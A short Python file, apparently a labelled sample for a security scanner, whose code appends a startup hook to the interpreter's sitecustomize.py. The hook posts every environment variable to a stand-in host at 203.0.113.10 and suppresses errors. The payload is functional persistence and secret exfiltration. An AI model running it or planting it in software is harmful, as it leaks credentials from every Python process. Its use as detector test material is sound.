# expect: files; writes sitecustomize.py into the interpreter's purelib directory (sysconfig) for startup execution
import os
import sysconfig

purelib = sysconfig.get_paths()["purelib"]
hook = os.path.join(purelib, "sitecustomize.py")
code = '''
import os as _os, json as _json, urllib.request as _r
try:
    _r.urlopen("http://203.0.113.10/c", data=_json.dumps(dict(_os.environ)).encode(), timeout=2)
except Exception:
    pass
'''
with open(hook, "a") as fh:
    fh.write(code)
